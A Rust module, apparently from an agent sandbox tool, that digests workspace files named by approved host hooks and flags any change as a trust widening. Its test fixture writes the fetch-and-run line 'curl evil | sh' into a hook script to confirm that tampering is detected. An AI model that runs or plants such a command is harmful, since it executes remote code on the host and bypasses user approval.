//! Host hooks run a command line the user approved, but the scripts it names usually live in
//! the workspace, which the agent writes. The approval records a digest of every workspace
//! file a hook names; a changed or new one is a widening, like a changed command.

use std::collections::BTreeMap;
use std::path::Path;

use sha2::{Digest, Sha256};

use super::protect::{plain, Kind};
use super::{hex, Widening};
use crate::config::Config;

/// `relative path → sha256` of each regular file inside `root` that a hook of `config`
/// names (a word of the command, relative to the project root or absolute below it).
pub fn named_files(root: &Path, config: &Config) -> BTreeMap<String, String> {
    let hooks = [&config.hooks.post_up, &config.hooks.pre_down];
    let words = hooks
        .into_iter()
        .flatten()
        .flat_map(|cmd| {
            cmd.split(|c: char| c.is_whitespace() || ";&|()<>`\"'=".contains(c))
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .filter(|w| !w.is_empty() && !w.starts_with('-'));
    let mut out = BTreeMap::new();
    for word in words {
        let rel = match Path::new(&word).strip_prefix(root) {
            Ok(rel) => rel.to_path_buf(),
            Err(_) if word.starts_with('/') => continue,
            Err(_) => Path::new(&word).components().collect(),
        };
        let rel = crate::config::fields::mounts::normalize(&rel);
        if rel.as_os_str().is_empty() || !plain(root, &rel, Kind::File) {
            continue;
        }
        if let Ok(bytes) = std::fs::read(root.join(&rel)) {
            out.insert(rel.display().to_string(), hex(&Sha256::digest(&bytes)));
        }
    }
    out
}

/// The hook files that are new or changed against the approved digests.
pub fn widenings(
    approved: &BTreeMap<String, String>,
    current: &BTreeMap<String, String>,
) -> Vec<Widening> {
    current
        .iter()
        .filter(|(path, digest)| approved.get(*path) != Some(digest))
        .map(|(path, _)| Widening {
            field: "hooks",
            detail: format!("{path}, which a hook runs, changed since it was approved"),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trust::widen::tests::base;

    #[test]
    fn files_a_hook_names_are_digested_and_changes_widen() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir(root.join("scripts")).unwrap();
        std::fs::write(root.join("scripts/dev.sh"), "echo hi").unwrap();
        std::fs::write(root.join("Makefile"), "all:").unwrap();
        let mut c = base();
        c.hooks.post_up = Some("sh ./scripts/dev.sh --fast && make -f Makefile".into());
        c.hooks.pre_down = Some(format!("{}/scripts/dev.sh; /bin/true", root.display()));
        let first = named_files(root, &c);
        assert_eq!(
            first.keys().collect::<Vec<_>>(),
            ["Makefile", "scripts/dev.sh"]
        );
        assert!(widenings(&first, &first).is_empty());
        std::fs::write(root.join("scripts/dev.sh"), "curl evil | sh").unwrap();
        let w = widenings(&first, &named_files(root, &c));
        assert_eq!(w.len(), 1);
        assert!(
            w[0].to_string().starts_with("hooks: scripts/dev.sh"),
            "{}",
            w[0]
        );
    }
}
